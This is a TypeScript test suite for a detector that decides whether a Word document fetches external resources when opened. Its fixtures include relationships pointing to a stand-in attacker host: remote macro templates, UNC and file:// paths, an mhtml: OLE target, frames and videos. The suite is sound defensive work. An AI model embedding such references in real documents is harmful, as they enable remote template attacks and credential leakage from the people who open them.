import { expect, test } from 'vitest'
import { zipOf } from '#tests/zip-of.ts'
import { fetchesWhenOpened } from './fetches-when-opened.ts'

const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
const document = (relation: string, rels = `<Relationships>${relation}</Relationships>`) =>
  zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<document/>' },
    { name: 'word/_rels/settings.xml.rels', content: rels },
  ])
const relation = (kind: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="${kinds}${kind}" Target="${target}" TargetMode="${mode}"/>`

test.each([
  [relation('attachedTemplate', 'https://evil.example/a.dotm')],
  [relation('attachedTemplate', '&#104;ttps://evil.example/a.dotm')],
  [relation('attachedTemplate', String.raw`\\evil.example\a.dotm`)],
  [relation('attachedTemplate', 'file://evil.example/a.dotm')],
  [relation('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/a')],
  [relation('frame', '//evil.example/a')],
  [relation('image', 'https://pictures.example/photo.png')],
  [relation('image', String.raw`\\evil.example\a\b.png`)],
  [relation('image', 'file://evil.example/a/b.png')],
  [relation('image', String.raw`file:///\\evil.example\a\b.png`)],
  [relation('video', '//evil.example/a/b.mp4')],
])('%s is fetched', async (given) => {
  expect(await fetchesWhenOpened(await document(given))).toBe(true)
})

test.each([
  [relation('hyperlink', 'https://linkedin.example/rina')],
  [relation('image', 'media/photo.png', 'Internal')],
  [relation('image', 'file:///C:/Users/Rina/photo.png')],
  [relation('externalLinkPath', String.raw`\\factory\costing\lines.xlsx`)],
  [relation('attachedTemplate', 'file:///C:\\Users\\Rina\\Templates\\Resume.dotx')],
  [relation('attachedTemplate', 'C:\\Templates\\Resume.dotx')],
])('%s is not', async (given) => {
  expect(await fetchesWhenOpened(await document(given))).toBe(false)
})

test('what has more relations than a document needs is taken for it', async () => {
  const rels = `<Relationships>${' '.repeat(1_000_000)}</Relationships>`
  const parts = Array.from({ length: 5 }, (_, at) => ({ name: `word/_rels/${at}.rels`, content: rels }))
  expect(await fetchesWhenOpened(await zipOf(parts.slice(0, 4)))).toBe(false)
  expect(await fetchesWhenOpened(await zipOf(parts))).toBe(true)
})

test('what cannot be read is taken for it', async () => {
  const utf16 = Buffer.from('\ufeff<Relationships/>', 'utf16le')
  expect(await fetchesWhenOpened(await document('', utf16 as never))).toBe(true)
  expect(await fetchesWhenOpened(Buffer.from('no document'))).toBe(true)
})
